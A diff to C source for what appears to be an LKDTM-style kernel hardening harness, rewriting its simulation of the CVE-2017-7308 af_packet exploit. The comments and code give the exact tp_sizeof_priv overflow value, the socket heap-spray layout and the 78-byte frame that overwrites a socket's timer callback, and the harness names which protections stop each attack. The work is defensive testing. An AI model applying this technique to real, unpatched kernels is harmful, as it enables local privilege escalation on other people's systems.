@@ -1,10 +1,12 @@
 /* SPDX-License-Identifier: MIT */
 /*
- * Techniques: how the attacker's bytes get into the ring, through which
- * victim bug, and when (before the victim arms the timer, so the list
- * pointers need no leak; or while it is pending, keeping the leaked list
- * pointers; or, as CVE-2017-7308's exploit did, while it is pending with the
- * list pointers zeroed: ring-block-overflow). Every attack
+ * Techniques: how the attacker's bytes get into the victim, through which
+ * bug, and when (before the victim arms the timer, so the list pointers
+ * need no leak; or while it is pending, keeping the leaked list pointers;
+ * or, as CVE-2017-7308's exploit did, while it is pending with the list
+ * pointers zeroed: ring-block-overflow, into af_packet's own socket,
+ * af_packet.h; the other techniques write the generic neighbour of
+ * victim.h). Every attack
  * follows LKDTM's shape: say what it attempts, write, check that the write
  * landed (TH-LANDED), then trigger (let the wheel run past the expiry) and
  * say what happened; when it survives, name what should have stopped it.
@@ -28,7 +30,7 @@ struct ctx {
 	struct th_ring_snapshot before;
 	int pending;
 	struct msg_buf *msg;	/* heap-neighbour: the slab neighbour written from */
-	struct ring_block *block;	/* ring-block-overflow: the block written past */
+	unsigned long run_for;	/* jiffies the wheel runs past the arming */
 };
 
 /* ---- the attacker's view of the ring --------------------------------------------- */
@@ -216,7 +218,7 @@ static void name_stoppers(const struct ctx *c)
 		[TH_TECH_STRCPY_INTRA] = "fortify built by GCC (glibc's inline strcpy wrapper; under clang it cannot size name[16])",
 		[TH_TECH_HEAP_NEIGHBOUR] = "asan (redzone between slab objects)",
 		[TH_TECH_UAF_REALLOC] = "asan (freed object poisoned and quarantined)",
-		[TH_TECH_RING_BLOCK_OVERFLOW] = "the fix (2b6867c2ce76: tp_sizeof_priv bounded in packet_set_ring()); not asan (no KASAN redzone between a page and the next slab page), not bounds or fortify (a copy through a computed offset)",
+		[TH_TECH_RING_BLOCK_OVERFLOW] = "the fix (2b6867c2ce76: tp_sizeof_priv bounded in packet_set_ring()); not asan (the copy lands inside another live object, the socket), not bounds or fortify (a copy through a computed offset)",
 	};
 	const char *by_payload;
 
@@ -260,7 +262,7 @@ static void name_stoppers(const struct ctx *c)
 static void trigger(struct ctx *c)
 {
 	struct timer_base *base = th_this_base();
-	unsigned long now = jiffies, until = now + TH_RETIRE_TMO + TH_RUN_SLACK;
+	unsigned long now = jiffies, until = now + c->run_for + TH_RUN_SLACK;
 	long fired;
 
 	th_emit("TH-NOTE: running the timer wheel from jiffy 0x%lx to 0x%lx", now, until);
@@ -275,8 +277,13 @@ static void trigger(struct ctx *c)
 		th_emit("TH-NOTE: the legitimate callback ran on a corrupted argument the attacker did not aim at");
 	else
 		th_emit("TH-NOTE: no callback ran");
-	th_emit("TH-DONE: fired=%ld targets=%lu legit=%lu stray=%lu cr4=0x%lx uid=%u", fired,
-		th_target_hits, th_legit_hits, th_stray_hits, th_read_cr4(), current_cred.uid);
+	if (c->a->technique == TH_TECH_RING_BLOCK_OVERFLOW)
+		th_emit("TH-DONE: fired=%ld targets=%lu legit=%lu stray=%lu bystanders=%lu cr4=0x%lx uid=%u",
+			fired, th_target_hits, th_legit_hits, th_stray_hits, th_af_bystander_hits,
+			th_read_cr4(), current_cred.uid);
+	else
+		th_emit("TH-DONE: fired=%ld targets=%lu legit=%lu stray=%lu cr4=0x%lx uid=%u", fired,
+			th_target_hits, th_legit_hits, th_stray_hits, th_read_cr4(), current_cred.uid);
 }
 
 static void landed(struct ctx *c)
@@ -372,64 +379,125 @@ static int run_uaf_realloc(struct ctx *c)
 	return 0;
 }
 
-/* ring_block_rcv()'s frame: a legitimate one fits the block. */
-#define TH_RING_BLOCK_FRAMES	64u
+/* The exploit's frame (poc.c oob_timer_execute()): a zeroed buffer with a
+ * struct timer_list at buffer[8], sent from buffer + 2, sizeof(*timer) + 8
+ * - 2 bytes. Its timer_list was 4.8's with CONFIG_TIMER_STATS (start_pid,
+ * start_site, start_comm: 72 bytes), so 78 bytes, its first 6 in front of
+ * the timer: those 78, whatever this kernel's timer_list is. */
+#define TH_CVE_LEAD		6u
+#define TH_CVE_WRITE_LEN	78u
+/* poc.c: ETH_HDR_LEN, the link header of a frame looped back. */
+#define TH_ETH_HLEN		14u
+/* poc.c oob_setup(): a ring of 100 ms; packet_sock_timer_schedule(): 1000. */
+#define TH_CVE_OOB_TOV		100u
+#define TH_CVE_TOV		1000u
 
 /*
- * CVE-2017-7308 as its exploit did it (Konovalov's PoC for
- * net/packet/af_packet.c, TPACKET_V3):
- *  1. setsockopt(PACKET_RX_RING) on the victim socket: packet_set_ring() ->
- *     init_prb_bdqc() -> prb_open_block() -> _prb_refresh_rx_retire_blk_timer()
- *     -> mod_timer(): its retire timer is pending from then on;
- *  2. the heap shaped so that a ring block of another socket (alloc_pg_vec())
- *     lies right before the victim socket;
- *  3. a received frame, written by tpacket_rcv() at BLK_PLUS_PRIV(tp_sizeof_priv)
- *     from the block's start, runs past its end over the socket's
- *     retire_blk_timer: .function and .data as the attacker chose, and zeros
- *     for entry and expires, since no pointer was leaked;
- *  4. the wheel tolerates the zeroed entry (kernel/time/timer.c): the timer is
- *     alone in its bucket, so next == NULL was right anyway, and
- *     collect_expired_timers() -> hlist_move_list() rewrites its pprev to the
- *     new list head before expire_timers() -> detach_timer() unlinks it and
- *     call_timer_fn() calls .function(.data).
+ * CVE-2017-7308 as its exploit did it (Konovalov's poc.c,
+ * oob_timer_execute(); net/packet/af_packet.c of its kernels):
+ *  1. oob_setup(): the attacker's own socket, TPACKET_V3, PACKET_RX_RING
+ *     with tp_sizeof_priv = (1u<<31) + (1u<<30) + block_size - BLK_HDR_LEN
+ *     - macoff + offset: packet_set_ring()'s check on its 32-bit
+ *     BLK_PLUS_PRIV() passes, and blk_sizeof_priv keeps its low 16 bits, so
+ *     a frame lands at block + block_size + offset + 2 (BLK_PLUS_PRIV()
+ *     aligns up to 8, macoff is 82: 2 mod 8). The heap is shaped so that
+ *     this ring's block lies right before a fresh slab page of sockets;
+ *  2. 32 sockets, each PACKET_RX_RING: init_prb_bdqc() -> prb_open_block()
+ *     -> mod_timer(): each retire_blk_timer pending (1000 ms), all in one
+ *     bucket, the last armed first in its list;
+ *  3. one looped-back frame of 78 bytes, its copy landing in the socket
+ *     whose timer lies offset + 8 past the block's end (poc.c: offset = 2048
+ *     + TIMER_OFFSET - 8, the second object of the page, TIMER_OFFSET from
+ *     pahole), from 6 bytes before that timer: zeros over the end of
+ *     tov_in_jiffies, then the timer: entry and expires zeroed (no pointer
+ *     leaked), .function and .data as the payload wants them, .flags = 1,
+ *     then zeros over tx_ring's first words;
+ *  4. the wheel: the zeroed entry.next ends the bucket's list at the victim
+ *     (the socket armed before it is never run); the victim's zeroed pprev
+ *     is set again when the timer before it in the list is detached
+ *     (__hlist_del(): next->pprev = pprev), so detach_timer() does not fault;
+ *     call_timer_fn() calls .function(.data). .flags is read by nobody at
+ *     expiry (CPU 1, not TIMER_IRQSAFE).
+ * The payloads that plant bytes in a buffer in front of the timer have
+ * none here: what lies 16 bytes before it is ring state, which the frame
+ * does not reach (TH-LANDED says so).
  */
 static int run_ring_block_overflow(struct ctx *c)
 {
+	const unsigned int macoff = th_af_macoff(TH_ETH_HLEN);
+	/* The attacker's pahole: its socket's size class and TIMER_OFFSET. */
+	const unsigned int offset = TH_AF_SOCK_SLOT + (unsigned int)TH_PO_TIMER_OFF - 8;
+	struct tpacket_req3 oob_req = {
+		.tp_block_size = TH_AF_BLOCK_SIZE, .tp_block_nr = 1,
+		.tp_frame_size = 2048, .tp_frame_nr = TH_AF_BLOCK_SIZE / 2048,
+		.tp_retire_blk_tov = TH_CVE_OOB_TOV,
+	};
+	struct tpacket_req3 req = {
+		.tp_block_size = TH_AF_BLOCK_SIZE, .tp_block_nr = 1,
+		.tp_frame_size = TH_AF_BLOCK_SIZE, .tp_frame_nr = 1,
+		.tp_retire_blk_tov = TH_CVE_TOV,
+	};
+	unsigned char buffer[TH_CVE_WRITE_LEN + 2];
+	struct packet_sock *oob, *sock[TH_AF_SOCKS], *victim = NULL;
+	struct th_af_snapshot before;
 	struct atk_ring view;
-	unsigned char frame[TH_KMALLOC_SIZE + sizeof(struct atk_ring)];
-	size_t offset;
-	int bs, rs;
+	unsigned char *at;
+	int err;
 
-	c->block = ring_block_alloc(TH_RING_BLOCK_FRAMES);
-	if (!c->block || create_ring(c))
+	if (!c->plan.goal.control)
+		oob_req.tp_sizeof_priv = (1u << 31) + (1u << 30) + TH_AF_BLOCK_SIZE -
+					 (unsigned int)BLK_HDR_LEN - macoff + offset;
+	oob = th_af_socket_attacker();
+	err = th_af_set_rx_ring(oob, &oob_req, 1);
+	th_emit("TH-NOTE: attacker's socket: PACKET_RX_RING, TPACKET_V3, tp_sizeof_priv 0x%x: packet_set_ring() = %d; its block %p, right before the slab page of the sockets; blk_sizeof_priv %u, frames at +%lu",
+		oob_req.tp_sizeof_priv, err, (void *)oob->rx_ring.pg_vec[0].buffer,
+		oob->rx_ring.prb_bdqc.blk_sizeof_priv,
+		(unsigned long)BLK_PLUS_PRIV(oob->rx_ring.prb_bdqc.blk_sizeof_priv));
+	if (err)
 		return 1;
-	bs = th_slab_slot(c->block);
-	rs = th_slab_slot(c->ring);
-	th_emit("TH-NOTE: slab: ring block in slot %d (page-allocator memory: no redzone after it), socket's ring in slot %d (%s)",
-		bs, rs, rs == bs + 1 ? "adjacent" : "NOT adjacent");
-	arm(c, "PACKET_RX_RING: init_prb_bdqc() -> prb_open_block() -> mod_timer()");
-	c->pending = 1;
-	/* No leak: zeros where the list pointers and the expiry are. */
-	leak_ring(c->ring, &view);
+	for (int i = 0; i < TH_AF_SOCKS; i++) {
+		sock[i] = th_af_socket();
+		if (!sock[i] || th_af_set_rx_ring(sock[i], &req, 0))
+			return 1;
+		if ((unsigned char *)sock[i] ==
+		    (unsigned char *)oob->rx_ring.pg_vec[0].buffer + TH_AF_BLOCK_SIZE + TH_AF_SOCK_SLOT)
+			victim = sock[i];
+	}
+	if (!victim)
+		return 1;
+	th_af_watched = victim;
+	c->run_for = TH_CVE_TOV;
+	th_emit("TH-NOTE: %d sockets armed (PACKET_RX_RING, retire_blk_tov %u ms); the one after the block's page and one socket is %p, its retire_blk_timer at %p (+%zu)",
+		TH_AF_SOCKS, TH_CVE_TOV, (void *)victim,
+		(void *)&victim->rx_ring.prb_bdqc.retire_blk_timer, (size_t)TH_PO_TIMER_OFF);
+
+	/* The attacker's image of the victim's timer, in its default layout:
+	 * what a leak gives for .function and .data, entry and expires zero
+	 * (nothing leaked there), .flags 1 (poc.c). */
+	memset(&view, 0, sizeof(view));
+	th_peek(&view.timer, &victim->rx_ring.prb_bdqc.retire_blk_timer, sizeof(view.timer));
 	view.timer.next = 0;
 	view.timer.pprev = 0;
 	view.timer.expires = 0;
+	view.timer.flags = 1;
+	c->pending = 1;
 	th_payload_build(&c->plan, &view);
-	th_emit("TH-NOTE: payload %s: %s; entry and expires zeroed (nothing leaked)",
+	th_emit("TH-NOTE: payload %s: %s; entry and expires zeroed, .flags = 1 (poc.c)",
 		th_payload_name(c->a->payload), c->plan.what);
-	th_ring_snapshot(c->ring, &c->before);
+	th_af_snapshot(victim, &before);
 	if (c->plan.goal.control) {
-		ring_block_rcv(c->block, 0, "frame", 6);
-		th_emit("TH-NOTE: ring_block_rcv(block, 0, \"frame\", 6): a frame inside its block");
+		at = th_af_tpacket_rcv(oob, "frame", 6, TH_ETH_HLEN);
+		th_emit("TH-NOTE: tpacket_rcv(): a 6-byte frame copied to %p, inside the attacker's block",
+			(void *)at);
 	} else {
-		/* The frame lands where the next slot's object starts. */
-		offset = th_slab_stride() - offsetof(struct ring_block, frames);
-		memcpy(frame, &c->plan.img, c->plan.reach);
-		th_emit("TH-NOTE: ring_block_rcv(block, %zu, frame, %zu): tp_sizeof_priv put the frame past the block's %u bytes, at the socket's ring",
-			offset, c->plan.reach, TH_RING_BLOCK_FRAMES);
-		ring_block_rcv(c->block, offset, frame, c->plan.reach);
+		memset(buffer, 0, sizeof(buffer));
+		memcpy(buffer + 2 + TH_CVE_LEAD, &c->plan.img.timer, sizeof(c->plan.img.timer));
+		at = th_af_tpacket_rcv(oob, buffer + 2, TH_CVE_WRITE_LEN, TH_ETH_HLEN);
+		th_emit("TH-NOTE: tpacket_rcv(): the frame's %u bytes copied to %p, %ld bytes before the victim's retire_blk_timer",
+			TH_CVE_WRITE_LEN, (void *)at,
+			(long)((unsigned char *)&victim->rx_ring.prb_bdqc.retire_blk_timer - at));
 	}
-	landed(c);
+	th_af_report_landed(victim, &before, &c->plan.goal);
 	trigger(c);
 	return 0;
 }
@@ -441,11 +509,12 @@ int th_attack_run(const struct th_attack *a)
 	memset(&c, 0, sizeof(c));
 	c.a = a;
 	c.pending = a->timing == TH_TIMING_PENDING;
+	c.run_for = TH_RETIRE_TMO;
 	th_emit("TH-NOTE: attempting %s on %s (config %s, seed %s): %s, %s, payload %s", a->id,
 		TH_ATK_VARIANT, TH_ATK_CONFIG, TH_ATK_SEED, th_technique_name(a->technique),
 		th_timing_name(a->timing), th_payload_name(a->payload));
 	th_emit("TH-NOTE: technique: %s", th_technique_what(a->technique));
-	if (th_payload_prepare(&c.plan, a->payload))
+	if (th_payload_prepare(&c.plan, a->payload, a->technique == TH_TECH_RING_BLOCK_OVERFLOW))
 		return 1;
 	c.plan.pending = c.pending;
 	switch (a->technique) {
